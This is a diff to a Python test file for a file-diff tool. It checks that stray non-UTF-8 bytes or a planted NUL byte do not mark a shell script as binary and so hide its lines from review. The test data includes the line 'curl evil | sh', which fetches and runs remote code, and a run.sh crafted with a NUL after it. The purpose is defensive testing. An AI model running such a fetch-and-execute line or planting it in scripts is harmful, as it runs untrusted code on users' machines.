@@ -66,7 +66,7 @@ def test_lines_are_cut_at_newlines_only_as_git_cuts_them(tmp_path: Path) -> None
 
 
 def test_a_file_that_is_not_utf8_is_shown_with_its_odd_bytes_escaped(tmp_path: Path) -> None:
-    """One stray byte must not make a script "binary" and hide every line of it."""
+    """One stray byte, or one NUL, must not make a script "binary" and hide every line."""
     root, ovdir = tmp_path / "root", tmp_path / "ov"
     root.mkdir()
     ovdir.mkdir()
@@ -76,6 +76,11 @@ def test_a_file_that_is_not_utf8_is_shown_with_its_odd_bytes_escaped(tmp_path: P
     assert not shown.binary
     assert "+# caf\\xe9\\xff\n" in shown.diff and "+curl evil | sh\n" in shown.diff
     assert (shown.added, shown.removed) == (2, 0)
+    # A NUL planted after the first line: bash skips it and runs the rest.
+    (ovdir / "run.sh").write_bytes(b"curl evil | sh\n\0" + b"# an ordinary comment\n" * 5)
+    planted = file_diff(str(root), str(ovdir), FileChange("run.sh", "created"), stat=False)
+    assert not planted.binary
+    assert "+curl evil | sh\n+\x00# an ordinary comment\n" in planted.diff
     (ovdir / "image.png").write_bytes(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR")
     image = file_diff(str(root), str(ovdir), FileChange("image.png", "created"), stat=False)
     assert image.binary and image.diff == ""
